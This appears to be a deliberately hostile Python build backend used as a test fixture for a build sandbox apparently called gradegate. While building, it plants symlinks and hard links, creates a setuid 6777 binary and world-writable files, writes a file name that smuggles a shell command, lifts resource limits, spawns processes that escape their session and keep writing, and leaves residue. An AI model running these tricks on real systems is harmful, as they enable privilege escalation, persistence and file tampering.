"""A build backend that does its worst while its package is built: what `deeds` says.

It gives out the wheel that lies beside it, so that without deeds it is a package like any other.
"""

import contextlib
import json
import os
import resource
import shutil
import subprocess
import sys
import time
from pathlib import Path

TOLD = json.loads(Path("deeds.json").read_text())


def links() -> None:
    """Links wherever gradegate might write, chmod or delete afterwards, named in every way."""
    target = TOLD["target"]
    for folder in [Path.cwd(), *Path.cwd().parents, *TOLD["places"]]:
        for name in TOLD["names"]:
            with contextlib.suppress(OSError):
                (Path(folder) / name).symlink_to(target)
    for part in ("venv", "python"):
        place = Path(TOLD["cache"])
        for found in place.glob(f"*/{part}"):
            for name in TOLD["names"]:
                with contextlib.suppress(OSError):
                    (found / name).symlink_to(target)
            with contextlib.suppress(OSError):
                (found / "more").symlink_to(Path(target).parent)
            with contextlib.suppress(OSError):
                os.link(target, found / "second name")
            with contextlib.suppress(OSError):
                os.mkfifo(found / "pipe")
            with contextlib.suppress(OSError):
                shutil.copy("/bin/true", found / "set-uid")
                (found / "set-uid").chmod(0o6777)
            with contextlib.suppress(OSError):
                (found / "open").write_text("to all")
                (found / "open").chmod(0o666)
            with contextlib.suppress(OSError):
                (found / "line\nbreak; touch x; $(id) ::error::").write_text("")
    with contextlib.suppress(OSError):
        shutil.rmtree(TOLD["cache"], ignore_errors=True)


def limits() -> None:
    """Raise what can be raised; tell what could, and gain rights."""
    status = Path("/proc/self/status").read_text()
    told: dict[str, object] = {"rights": status.partition("NoNewPrivs:\t")[2][0]}
    for name in ("RLIMIT_DATA", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_CPU"):
        kind = getattr(resource, name)
        with contextlib.suppress(ValueError, OSError):
            resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        told[name] = resource.getrlimit(kind)[1]
    sys.stderr.write(f"limits: {json.dumps(told)}\n")
    sys.exit(1)


def outlives() -> None:
    """Children that leave the group and the session, and wait to write when all is over."""
    for _ in range(20):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 100)
                while True:
                    time.sleep(0.05)
                    for place in Path(TOLD["cache"]).glob("*"):
                        with contextlib.suppress(OSError):
                            (place / "venv" / "late").write_text("from beyond")
            os._exit(0)


def chain() -> None:
    """Each generation leaves the group, has a child and is gone: no look is quick enough."""
    if os.fork() == 0:
        os.closerange(0, 100)
        while True:
            os.setsid()
            if os.fork():
                os._exit(0)


def deep() -> None:
    """Folders in folders, as deep as nobody's recursion."""
    (found,) = Path(TOLD["cache"]).glob("*/venv")
    os.chdir(found)
    for _ in range(1500):
        os.mkdir("d")  # noqa: PTH102 - relative to where we are
        os.chdir("d")


def residue() -> None:
    """Files wherever anybody may write."""
    for folder in TOLD["places"]:
        with contextlib.suppress(OSError):
            (Path(folder) / TOLD["residue"]).mkdir()
            (Path(folder) / TOLD["residue"] / "file").write_text("left")
    subprocess.run(["ipcmk", "-M", "4096"], check=False, stdout=subprocess.DEVNULL)


def build_wheel(
    folder: str, config_settings: object = None, metadata_directory: object = None
) -> str:
    """What PEP 517 asks for."""
    del config_settings, metadata_directory
    origin = Path.cwd()
    (found,) = Path(TOLD["cache"]).glob("*/venv")
    (found / "uid").write_text(str(os.getuid()))
    for deed in TOLD["deeds"]:
        globals()[deed]()
    os.chdir(origin)
    (wheel,) = origin.glob("*.whl")
    return Path(shutil.copy(wheel, folder)).name
